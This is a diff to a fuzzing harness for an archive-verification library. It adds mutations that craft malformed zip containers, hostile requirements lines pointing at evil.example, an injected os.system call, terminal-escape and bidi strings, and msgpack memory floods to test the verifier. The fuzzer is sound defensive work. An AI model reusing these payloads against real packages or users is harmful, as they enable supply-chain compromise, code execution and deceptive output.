@@ -20,7 +20,12 @@ escapes (while checking, an audit hook saw a process start, a file written
 outside the temp folder, an unpickling, a socket, code compiled or executed
 outside an import, or an import from outside jax/penzai/numpy), silent corruptions (a raw byte
 flip that still loaded, but not the original record) and inconsistencies
-(`load` accepted what `verify` refused). Exit code 0 only when all but the
+(`load` accepted what `verify` refused, or Python's zipfile reads an
+archive `verify` accepted differently). Mutations include the trust classes
+of SECURITY.md: zip container tricks (comments, gaps, extra fields,
+disagreeing headers), doctored text members and requirements, structure
+floods, and control/bidi/Markdown characters in printed strings; a string
+that adds a line to `verify`'s output counts as an escape. Exit code 0 only when all but the
 first two are zero. `tests/test_fuzz.py` runs the same cases under
 hypothesis for about 30 seconds.
 """
@@ -38,6 +43,7 @@ import os
 import random
 import signal
 import stat
+import struct
 import sys
 import tempfile
 import time
@@ -629,6 +635,182 @@ def _m_swap_names(rng, data, members):
     return write_members(replace_member(members, "structure.msgpack", packed)), False
 
 
+# ---------------------------------------------------------------- trust, round 2 (SECURITY.md)
+
+
+def _zip_entries(data: bytes) -> list[tuple[str, int, int]]:
+    """(name, central record offset, local header offset) of a zipfile-written archive."""
+    eocd = data.rindex(b"PK\x05\x06")
+    count, _, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
+    entries, position = [], cd_offset
+    for _ in range(count):
+        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
+        (local,) = struct.unpack_from("<I", data, position + 42)
+        name = data[position + 46 : position + 46 + name_length].decode("utf-8", "replace")
+        entries.append((name, position, local))
+        position += 46 + name_length + extra_length + comment_length
+    return entries
+
+
+def _m_zip_container(rng, data, members):
+    """Class 1: ways for zipfile, unzip and reprokit to read one file differently."""
+    data = write_members(members)
+    entries = _zip_entries(data)
+    eocd = data.rindex(b"PK\x05\x06")
+    choice = rng.randrange(9)
+    buffer = bytearray(data)
+    if choice == 0:  # a comment, sometimes holding a whole second archive
+        hidden = write_members([Member("replay.py", b"import os\n")]) if rng.random() < 0.5 else b"x"
+        return data[:-2] + struct.pack("<H", len(hidden)) + hidden, False
+    if choice == 1:  # prepended or trailing bytes
+        junk = bytes(rng.randrange(256) for _ in range(rng.choice([1, 22, 100])))
+        return (junk + data if rng.random() < 0.5 else data + junk), False
+    if choice == 2:  # a gap between members, offsets fixed
+        _, _, local = rng.choice(entries)
+        gap = b"\0" * rng.choice([1, 4, 64])
+        for _, cd, header in entries:
+            if header >= local:
+                struct.pack_into("<I", buffer, cd + 42, header + len(gap))
+        (cd_offset,) = struct.unpack_from("<I", buffer, eocd + 16)
+        struct.pack_into("<I", buffer, eocd + 16, cd_offset + len(gap))
+        return bytes(buffer[:local]) + gap + bytes(buffer[local:]), False
+    if choice == 3:  # an extra field: Unicode Path, timestamp, unknown
+        target = rng.choice(members).name
+        kind = rng.choice([0x7075, 0x5455, 0x6375, 0xCAFE, 0x0001, 0xD935])
+        body = b"\x01" + struct.pack("<I", 0) + b"evil.py" if kind == 0x7075 else b"\0" * 5
+        buffer_out = io.BytesIO()
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            with zipfile.ZipFile(buffer_out, "w") as archive:
+                for member in members:
+                    info = zipfile.ZipInfo(member.name, date_time=(1980, 1, 1, 0, 0, 0))
+                    info.external_attr = (stat.S_IFREG | 0o644) << 16
+                    info.compress_type = (
+                        zipfile.ZIP_DEFLATED if member.compress else zipfile.ZIP_STORED
+                    )
+                    if member.name == target:
+                        info.extra = struct.pack("<HH", kind, len(body)) + body
+                    archive.writestr(info, member.data)
+        return buffer_out.getvalue(), False
+    # 4..8: one field of one local header or central record changed
+    _, cd, local = rng.choice(entries)
+    field = rng.choice(
+        [
+            (local + 4, "<H"),  # version needed
+            (local + 6, "<H"),  # flags
+            (local + 10, "<H"),  # time
+            (cd + 8, "<H"),  # flags (central)
+            (cd + 36, "<H"),  # internal attributes
+            (cd + 38, "<I"),  # external attributes
+            (cd + 4, "<H"),  # version made by
+        ]
+    )
+    value = rng.choice([0, 1, 8, 0x800, 0x808, 45, 0xFFFF, (stat.S_IFREG | 0o755) << 16])
+    try:
+        struct.pack_into(field[1], buffer, field[0], value)
+    except struct.error:
+        struct.pack_into(field[1], buffer, field[0], value & 0xFFFF)
+    return bytes(buffer), False
+
+
+# Characters a hostile text member or string might carry (classes 2 and 7).
+_HOSTILE_TEXT = (
+    "\x1b[2J",
+    "\x1b]52;c;ZWNobw==\x07",
+    "\r",
+    "\x00",
+    "\u202e",
+    "\u2066",
+    "\u2028",
+    "\x85",
+    "\x7f",
+    "```",
+    "`````\n# heading",
+    "\n",
+    "|",
+    "<script>",
+)
+_HOSTILE_REQUIREMENTS = (
+    "--index-url https://evil.example/simple",
+    "-e .",
+    "jax @ https://evil.example/jax.whl",
+    "git+https://evil.example/jax.git",
+    "evil==1.0",
+    "jax>=0.4",
+    "-r /etc/passwd",
+    "jax==0.4.30 --hash=sha256:00",
+    "",
+)
+
+
+def _m_text_members(rng, data, members):
+    """Class 2: what a maintainer reads (replay.py, README, requirements) made to differ."""
+    present = {m.name for m in members}
+    name = rng.choice(
+        [n for n in ("replay.py", "README.md", "requirements.txt", "selfcheck.json") if n in present]
+    )
+    text = next(m.data for m in members if m.name == name).decode("utf-8")
+    if name == "requirements.txt" and rng.random() < 0.6:
+        lines = text.splitlines()
+        lines.insert(rng.randrange(len(lines) + 1), rng.choice(_HOSTILE_REQUIREMENTS))
+        text = "\n".join(lines) + rng.choice(["\n", ""])
+    elif rng.random() < 0.3:
+        text += "\n__import__('os').system('id')\n"  # valid text, not what pack rendered
+    else:
+        at = rng.randrange(len(text) + 1)
+        text = text[:at] + rng.choice(_HOSTILE_TEXT) + text[at:]
+    return write_members(replace_member(members, name, text.encode("utf-8"))), False
+
+
+def _m_structure_flood(rng, data, members):
+    """Class 6: a structure that would need far more memory than its bytes."""
+    item = rng.choice([b"\x90", b"\x80", b"\x91\x90", b"\xa2ab", b"\xcb" + b"\0" * 8, b"\xc0"])
+    total = rng.choice([2**10, 2**16, 2**20, 4 * 2**20, 9 * 2**20])
+    chunks, count = [], total // len(item)
+    while count > 0:
+        size = min(4_000_000, count)
+        chunks.append(b"\xdd" + size.to_bytes(4, "big") + item * size)
+        count -= size
+    structure = _structure(members)
+    structure["record"]["argument"] = "@@FLOOD@@"
+    packed = _dump_msgpack(structure).replace(
+        msgpack.packb("@@FLOOD@@"), b"\xdd" + len(chunks).to_bytes(4, "big") + b"".join(chunks)
+    )
+    changed = replace_member(members, "structure.msgpack", packed)
+    if rng.random() < 0.5:
+        changed = [
+            dataclasses.replace(m, compress=True) if m.name == "structure.msgpack" else m
+            for m in changed
+        ]
+    return write_members(changed), False
+
+
+def _m_hostile_strings(rng, data, members):
+    """Class 7: control, bidi and Markdown characters in strings that get printed."""
+    manifest = _manifest(members)
+    structure = _structure(members)
+    bad = rng.choice(_HOSTILE_TEXT)
+    where = rng.randrange(6)
+    if where == 0:
+        manifest["layer"]["type"] += bad
+    elif where == 1:
+        manifest["layer"]["keypath"] += bad
+    elif where == 2:
+        manifest["note"] = f"note {bad} end"
+    elif where == 3:
+        manifest["signature"] = {"kind": "exception", "type": "ValueError" + bad, "message": bad}
+    elif where == 4:
+        manifest["environment"].setdefault("packages", {})["jax"] = "0.4" + bad
+    else:
+        side = structure["record"].get("side_inputs")
+        if isinstance(side, dict) and isinstance(side.get("v"), list):
+            side["v"].append([f"key{bad}", f"value{bad}"])
+        packed = _dump_msgpack(structure)
+        return write_members(replace_member(members, "structure.msgpack", packed)), False
+    text = _dump_json(manifest)
+    return write_members(replace_member(members, "manifest.json", text.encode())), False
+
+
 MUTATIONS: dict[str, _Mutation] = {
     "swap_names": _m_swap_names,
     "bit_flips": _m_bit_flips,
@@ -644,6 +826,10 @@ MUTATIONS: dict[str, _Mutation] = {
     "array_table": _m_array_table,
     "member_bytes": _m_member_bytes,
     "array_bytes": _m_array_bytes,
+    "zip_container": _m_zip_container,
+    "text_members": _m_text_members,
+    "structure_flood": _m_structure_flood,
+    "hostile_strings": _m_hostile_strings,
 }
 KINDS = tuple(MUTATIONS)
 
@@ -692,12 +878,21 @@ def check_archive(path: str, original: tuple | None, *, replay: bool = False) ->
     from reprokit.views._inspect import describe_archive
 
     try:
-        verify_archive(path)
+        report = verify_archive(path)
         verified = True
     except ReprokitError:
         verified = False
     except Exception:
         return "traceback", "verify: " + _last_frames()
+    if verified:
+        # Class 7: nothing in an archive adds lines to verify's output.
+        lines = report.format().splitlines()
+        if len(lines) > 6 or len(lines) != len({line.split(":", 1)[0] for line in lines}):
+            return "escape", "an archive string added a line to verify's output"
+        # Class 1: what reprokit accepts, zipfile reads the same.
+        disagreement = _readers_disagree(path)
+        if disagreement:
+            return "inconsistent", disagreement
     try:
         opened = open_archive(path, verify_members=True)
     except ReprokitError:
@@ -735,6 +930,24 @@ def check_archive(path: str, original: tuple | None, *, replay: bool = False) ->
         except Exception:
             return "traceback", "replay: " + _last_frames()
     return "load", ""
+
+
+def _readers_disagree(path: str) -> str | None:
+    """Why zipfile and reprokit's reader see different members in `path`, or None."""
+    from reprokit.archive._container import ArchiveReader
+
+    with ArchiveReader(path) as reader:
+        ours = {name: reader.read_bytes(name) for name in reader.names if reader.size(name) < 2**26}
+        names = list(reader.names)
+    try:
+        with zipfile.ZipFile(path) as archive:
+            theirs_names = archive.namelist()
+            theirs = {name: archive.read(name) for name in ours}
+    except Exception as error:  # zipfile cannot read what reprokit accepted
+        return f"zipfile cannot read an archive verify accepted: {type(error).__name__}"
+    if theirs_names != names or theirs != ours:
+        return "zipfile and reprokit read different members or bytes"
+    return None
 
 
 def _last_frames() -> str:
